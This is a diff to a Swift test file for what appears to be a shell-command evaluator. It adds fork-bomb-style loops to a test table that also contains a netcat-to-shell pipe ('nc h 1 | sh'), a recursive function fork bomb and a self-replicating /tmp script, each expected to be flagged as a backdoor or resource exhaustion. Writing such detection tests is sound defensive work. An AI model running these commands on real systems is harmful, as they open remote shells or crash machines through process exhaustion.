@@ -147,6 +147,9 @@ struct EvaluatorCodeTests {
         ),
         ("nc h 1 | sh", ["nc h 1", "sh from nc", "(run fetched: nc)", "deny backdoor-shell"]),
         ("a() { b; }; b() { a & }; a", ["deny resource-exhaustion"]),
+        ("while true; do sleep 100 & done", ["true forever", #"(exhaust(what: "processes, started without end"))"#, "sleep 100 & forever"]),
+        ("while true; do job & wait; done", ["true forever", "job & forever"]),
+        ("while :; do :& done", [": forever", #"(exhaust(what: "processes, started without end"))"#, ": & forever"]),
         ("echo '/tmp/q & /tmp/q' > /tmp/q; chmod +x /tmp/q; /tmp/q", [#"echo /tmp/q & /tmp/q >/tmp/q{/tmp/q & /tmp/q\n}"#, "chmod +x /tmp/q", "deny resource-exhaustion"]),
     ]
     @Test("A shell on a socket is found", arguments: backdoors)
